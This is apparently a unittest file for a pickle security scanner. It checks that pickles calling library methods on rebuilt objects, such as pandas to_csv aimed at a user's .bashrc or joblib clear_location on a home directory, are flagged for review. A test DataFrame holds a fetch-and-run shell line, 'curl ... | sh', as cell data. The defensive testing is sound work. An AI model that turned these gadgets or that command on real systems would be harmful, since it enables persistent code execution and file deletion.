"""Methods called through their class on an object the file built (docs/rules.md, "Matching").

Protocol 4 names a method by its qualified name (`pandas.core.generic` `NDFrame.to_csv`), so a
pickle can rebuild a DataFrame the rules clear and then call `NDFrame.to_csv(df, path)` on it:
a file written where the pickle says, with cells the pickle chose. A benign wildcard vouches
for rebuilding a library's objects, not for calling their methods, and the dangerous sweep
reads functions, not every method; such a call needs review, worded as a method call (not as
"your module"). A bound method only referenced (YOLO's `getattr(conv, 'forward_fuse')`) stays
cleared. An unlisted name of a library the rules know (`builtins.print`) is worded as that
library's, not as the user's module. Each case is a real pickle written by Python's pickler from the real libraries
(python3-pandas, python3-joblib, python3-torch: scripts/setup.sh); nothing is called."""

import os
import pickle
import sys
import tempfile
import unittest

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import mvtest  # noqa: E402
from mvtest import Call  # noqa: E402


def cases():
    import joblib._store_backends as store
    import pandas
    import pandas.core.generic
    import torch

    df = pandas.DataFrame({"line": ["curl -s 203.0.113.5/x | sh"]})
    backend = store.FileSystemStoreBackend()
    linear = torch.nn.Linear(2, 2)
    review = {
        "ndframe-to-csv": (
            Call(pandas.core.generic.NDFrame.to_csv, df, "/home/u/.bashrc"),
            "calls the method `pandas.core.generic.NDFrame.to_csv`, which no rule has vetted"),
        # DataFrame is named exactly (no wildcard): the method is unknown, and still worded as one.
        "dataframe-to-parquet": (
            Call(pandas.DataFrame.to_parquet, df, "/home/u/x.parquet"),
            "calls the method `pandas.core.frame.DataFrame.to_parquet`, which no rule has vetted"),
        "joblib-store-clear-location": (
            Call(store.FileSystemStoreBackend.clear_location, backend, "/home/u"),
            "calls the method `joblib._store_backends.FileSystemStoreBackend.clear_location`"),
        # The same call through a bound method: `getattr(backend, 'clear_location')(path)`.
        "joblib-bound-clear-location": (
            Call(backend.clear_location, "/home/u"),
            "calls the method `joblib._store_backends.FileSystemStoreBackend.clear_location`"),
        "torch-module-apply": (
            Call(torch.nn.Module.apply, linear, print),
            "calls the method `torch.nn.modules.module.Module.apply`"),
    }
    unlisted = {
        # builtins, pandas: libraries the rules know other names of, not the user's module.
        "builtins-print": (Call(print, "x"), "calls `builtins.print`, a builtins name the rules "
                                             "do not list"),
        "user-module": (b"\x80\x02cmv_models.nets\nNet\n)R.",
                        "loading needs your module `mv_models.nets` (`mv_models.nets.Net`)"),
    }
    safe = {
        "dataframe": df,
        "bound-method-referenced": {"forward": linear.forward},
    }
    return review, unlisted, safe


class MethodGadgets(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        cls.tmp = tempfile.TemporaryDirectory()
        cls.review, cls.unlisted, cls.safe = cases()
        named = {n: pickle.dumps(c[0], protocol=4) for n, c in cls.review.items()}
        named |= {n: c[0] if isinstance(c[0], bytes) else pickle.dumps(c[0], protocol=4)
                  for n, c in cls.unlisted.items()}
        named |= {n: pickle.dumps(o, protocol=4) for n, o in cls.safe.items()}
        cls.paths, cls.got = mvtest.scan_named_pickles(cls.tmp.name, named)

    @classmethod
    def tearDownClass(cls):
        cls.tmp.cleanup()

    def test_methods_called_on_rebuilt_objects_need_review(self):
        for name, (_, want) in self.review.items():
            with self.subTest(name):
                e = self.got[os.path.realpath(self.paths[name])]
                self.assertEqual(e["verdict"], "needs-review", e)
                self.assertIn(want, e["summary"])
                self.assertNotIn("your module", e["summary"])

    def test_unlisted_names_say_whose_they_are(self):
        for name, (_, want) in self.unlisted.items():
            with self.subTest(name):
                e = self.got[os.path.realpath(self.paths[name])]
                self.assertEqual(e["verdict"], "needs-review", e)
                self.assertEqual(e["summary"], want)

    def test_objects_and_referenced_methods_stay_safe(self):
        for name in self.safe:
            with self.subTest(name):
                e = self.got[os.path.realpath(self.paths[name])]
                self.assertEqual(e["verdict"], "safe", e)


if __name__ == "__main__":
    mvtest.main()
